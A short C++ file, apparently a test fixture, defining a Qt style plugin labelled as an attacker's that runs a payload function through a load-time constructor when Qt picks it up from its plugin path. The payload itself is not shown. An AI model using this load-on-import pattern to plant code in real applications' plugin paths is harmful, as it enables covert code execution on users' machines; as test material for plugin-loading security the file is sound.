// SPDX-License-Identifier: LGPL-2.1-or-later
// A Qt style plugin ("evilstyle") of an attacker's: loaded, it runs the
// payload. Qt loads it for QT_STYLE_OVERRIDE or -style when it finds it on
// its plugin path.
#include <QStylePlugin>

#include "payload.h"

class EvilStylePlugin : public QStylePlugin {
    Q_OBJECT
    Q_PLUGIN_METADATA(IID QStyleFactoryInterface_iid FILE "evil_style_plugin.json")

public:
    QStyle *create(const QString &) override { return nullptr; }
};

__attribute__((constructor)) static void whenLoaded() { runAttackerPayload("style plugin"); }

#include "evil_style_plugin.moc"
